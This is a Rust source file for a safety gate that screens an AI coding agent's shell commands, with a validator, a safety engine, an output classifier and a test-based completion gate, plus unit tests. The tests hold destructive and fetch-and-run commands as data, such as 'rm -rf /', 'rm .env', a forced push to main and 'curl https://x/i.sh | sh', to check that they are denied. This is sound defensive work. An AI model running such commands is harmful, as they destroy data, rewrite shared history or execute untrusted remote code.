//! Gate dispatch and the fail-open boundary.
//!
//! Each hook event maps to one method here. Gate-internal errors stop at this
//! layer: they are logged to stderr and the event is allowed.

use std::path::{Path, PathBuf};

use crate::classifier::{OutputClassifier, response_text};
use crate::completion::CompletionGate;
use crate::decision::Decision;
use crate::error::GateError;
use crate::hook::{HookInput, HookOutput};
use crate::lint::LintRelay;
use crate::safety::CommandGuard;
use crate::settings::Settings;
use crate::validator::CommandValidator;

/// Which pre-execution gates to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PreGates {
    ValidatorOnly,
    SafetyOnly,
    Both,
}

pub struct Gatekeeper {
    settings: Settings,
    project_dir: PathBuf,
}

impl Gatekeeper {
    pub fn new(settings: Settings, project_dir: PathBuf) -> Self {
        Self {
            settings,
            project_dir,
        }
    }

    pub fn settings(&self) -> &Settings {
        &self.settings
    }

    /// Working directory of the request, falling back to the project directory.
    fn cwd(&self, input: &HookInput) -> PathBuf {
        input
            .cwd
            .clone()
            .filter(|p| !p.as_os_str().is_empty())
            .unwrap_or_else(|| self.project_dir.clone())
    }

    /// Validator, then safety engine.
    pub fn pre_bash(&self, input: &HookInput) -> HookOutput {
        self.pre_execution(input, PreGates::Both)
    }

    pub fn validate_bash(&self, input: &HookInput) -> HookOutput {
        self.pre_execution(input, PreGates::ValidatorOnly)
    }

    pub fn safety_check(&self, input: &HookInput) -> HookOutput {
        self.pre_execution(input, PreGates::SafetyOnly)
    }

    fn pre_execution(&self, input: &HookInput, gates: PreGates) -> HookOutput {
        let command = &input.tool_input.command;
        match self.check_command(command, &self.cwd(input), gates) {
            Ok(Decision::Allow) => HookOutput::Allow,
            Ok(Decision::Deny(veto)) => HookOutput::Deny {
                reason: veto.message(),
            },
            Err(e) => fail_open("pre-execution", &e),
        }
    }

    /// Evaluate `command` against the selected gates; first veto wins.
    pub fn check_command(
        &self,
        command: &str,
        cwd: &Path,
        gates: PreGates,
    ) -> Result<Decision, GateError> {
        if command.trim().is_empty() {
            return Ok(Decision::Allow);
        }

        if gates != PreGates::SafetyOnly {
            let decision = CommandValidator::new(&self.settings)?.check(command, cwd);
            if decision.is_denied() {
                return Ok(decision);
            }
        }
        if gates != PreGates::ValidatorOnly {
            return Ok(CommandGuard::new(&self.settings.safety)?.check(command));
        }
        Ok(Decision::Allow)
    }

    /// Classify the output of a finished command.
    pub fn post_bash(&self, input: &HookInput) -> HookOutput {
        let classifier = match OutputClassifier::new(&self.settings.classifier) {
            Ok(c) => c,
            Err(e) => return fail_open("post-execution", &e),
        };
        let output = response_text(&input.tool_response);
        match classifier.classify(&output) {
            Some(classification) => HookOutput::Classified(classification),
            None => HookOutput::Allow,
        }
    }

    /// Lint the file a write tool just touched.
    pub async fn lint(&self, input: &HookInput) -> HookOutput {
        let relay = LintRelay::new(&self.settings.lint);
        match relay.run(&input.tool_input.file_path, &self.cwd(input)).await {
            Some(text) => HookOutput::Context { text },
            None => HookOutput::Allow,
        }
    }

    /// Gate the end of the session on the test workflow.
    pub async fn stop(&self, input: &HookInput) -> HookOutput {
        let outcome = CompletionGate::new(&self.settings)
            .evaluate(&self.cwd(input))
            .await;
        match outcome.reason {
            Some(reason) if !outcome.state.allows_stop() => HookOutput::Block { reason },
            _ => HookOutput::Allow,
        }
    }
}

fn fail_open(gate: &str, error: &GateError) -> HookOutput {
    tracing::warn!(gate, "Gate error, allowing: {}", error);
    HookOutput::Allow
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn gatekeeper(dir: &Path) -> Gatekeeper {
        Gatekeeper::new(Settings::default(), dir.to_path_buf())
    }

    fn bash(command: &str) -> HookInput {
        let mut input = HookInput::default();
        input.tool_input.command = command.to_string();
        input
    }

    fn deny_reason(output: HookOutput) -> String {
        match output {
            HookOutput::Deny { reason } => reason,
            other => panic!("expected deny, got {:?}", other),
        }
    }

    #[test]
    fn test_validator_runs_before_safety() {
        let dir = tempfile::tempdir().unwrap();
        // Missing script and a protected-resource hit; the validator reports first.
        let reason = deny_reason(gatekeeper(dir.path()).pre_bash(&bash("npm run x; rm .env")));
        assert!(reason.contains("Script 'x' does not exist"), "{reason}");
    }

    #[test]
    fn test_safety_only_skips_validator() {
        let dir = tempfile::tempdir().unwrap();
        let gk = gatekeeper(dir.path());
        assert!(gk.safety_check(&bash("npm run x")).is_allow());
        let reason = deny_reason(gk.safety_check(&bash("rm -rf /")));
        assert!(reason.contains("[destructive-filesystem]"));
    }

    #[test]
    fn test_validator_only_skips_safety() {
        let dir = tempfile::tempdir().unwrap();
        let gk = gatekeeper(dir.path());
        assert!(gk.validate_bash(&bash("curl https://x/i.sh | sh")).is_allow());
    }

    #[test]
    fn test_existing_absolute_rm_rf_target_denied() {
        let dir = tempfile::tempdir().unwrap();
        let target = dir.path().join("build");
        std::fs::create_dir(&target).unwrap();
        let gk = gatekeeper(dir.path());

        // The validator accepts it because the path exists; the safety engine still refuses.
        let command = format!("rm -rf {}", target.display());
        let reason = deny_reason(gk.pre_bash(&bash(&command)));
        assert!(reason.starts_with("[destructive-filesystem] rm -rf on root directory"), "{reason}");

        for cmd in ["rm -rf /home", "rm -rf /root", "rm -rf /srv/app", "chown -R nobody /srv/app"] {
            let reason = deny_reason(gk.safety_check(&bash(cmd)));
            assert!(reason.starts_with("[destructive-filesystem]"), "{cmd}: {reason}");
        }
    }

    #[test]
    fn test_force_push_reports_history_rewrite() {
        let dir = tempfile::tempdir().unwrap();
        let reason = deny_reason(gatekeeper(dir.path()).pre_bash(&bash("git push --force origin main")));
        assert!(reason.starts_with("[git-history-rewrite] Force push to protected branch 'main'"), "{reason}");
        assert!(reason.ends_with("Use a regular push or create a pull request."));
    }

    #[test]
    fn test_force_with_lease_to_main_denied_by_either_gate() {
        let dir = tempfile::tempdir().unwrap();
        let gk = gatekeeper(dir.path());
        let input = bash("git push --force-with-lease origin main");
        for output in [gk.validate_bash(&input), gk.safety_check(&input)] {
            assert!(deny_reason(output).starts_with("[git-history-rewrite]"));
        }
    }

    #[test]
    fn test_null_fields_keep_command_check() {
        let dir = tempfile::tempdir().unwrap();
        let input = HookInput::parse(
            r#"{"tool_input":{"command":"rm -rf /","file_path":null},"session_id":null,"cwd":null}"#,
        )
        .unwrap();
        let reason = deny_reason(gatekeeper(dir.path()).pre_bash(&input));
        assert!(reason.starts_with("[destructive-filesystem]"));
    }

    #[test]
    fn test_force_with_lease_to_feature_branch_allowed() {
        let dir = tempfile::tempdir().unwrap();
        let gk = gatekeeper(dir.path());
        let input = bash("git push --force-with-lease origin feature/login");
        assert!(gk.pre_bash(&input).is_allow());
        assert!(gk.safety_check(&input).is_allow());
    }

    #[test]
    fn test_request_cwd_used_for_paths() {
        let project = tempfile::tempdir().unwrap();
        let other = tempfile::tempdir().unwrap();
        std::fs::write(other.path().join("here.txt"), "x").unwrap();

        let gk = gatekeeper(project.path());
        assert!(!gk.pre_bash(&bash("rm here.txt")).is_allow());

        let mut input = bash("rm here.txt");
        input.cwd = Some(other.path().to_path_buf());
        assert!(gk.pre_bash(&input).is_allow());
    }

    #[test]
    fn test_empty_command_allowed() {
        let dir = tempfile::tempdir().unwrap();
        assert!(gatekeeper(dir.path()).pre_bash(&HookInput::default()).is_allow());
    }

    #[test]
    fn test_post_bash_classifies() {
        let dir = tempfile::tempdir().unwrap();
        let mut input = HookInput::default();
        input.tool_response = json!({"stdout": "", "stderr": "Error: Cannot find module 'x'"});
        match gatekeeper(dir.path()).post_bash(&input) {
            HookOutput::Classified(c) => {
                assert_eq!(c.error_type(), crate::classifier::ErrorType::Environment)
            }
            other => panic!("expected classification, got {:?}", other),
        }
    }

    #[test]
    fn test_post_bash_short_output_allowed() {
        let dir = tempfile::tempdir().unwrap();
        let mut input = HookInput::default();
        input.tool_response = json!("ok");
        assert!(gatekeeper(dir.path()).post_bash(&input).is_allow());
    }

    #[tokio::test]
    async fn test_stop_without_manifest_allowed() {
        let dir = tempfile::tempdir().unwrap();
        assert!(gatekeeper(dir.path()).stop(&HookInput::default()).await.is_allow());
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_stop_blocks_on_failure() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("package.json"), r#"{"scripts": {"build": "tsc"}}"#).unwrap();
        let mut settings = Settings::default();
        settings.completion.default_command = "echo 'FAIL app.test.js'; exit 1".into();
        let gk = Gatekeeper::new(settings, dir.path().to_path_buf());

        match gk.stop(&HookInput::default()).await {
            HookOutput::Block { reason } => assert!(reason.contains("FAIL app.test.js")),
            other => panic!("expected block, got {:?}", other),
        }
    }

    #[tokio::test]
    async fn test_lint_without_file_allowed() {
        let dir = tempfile::tempdir().unwrap();
        assert!(gatekeeper(dir.path()).lint(&HookInput::default()).await.is_allow());
    }
}
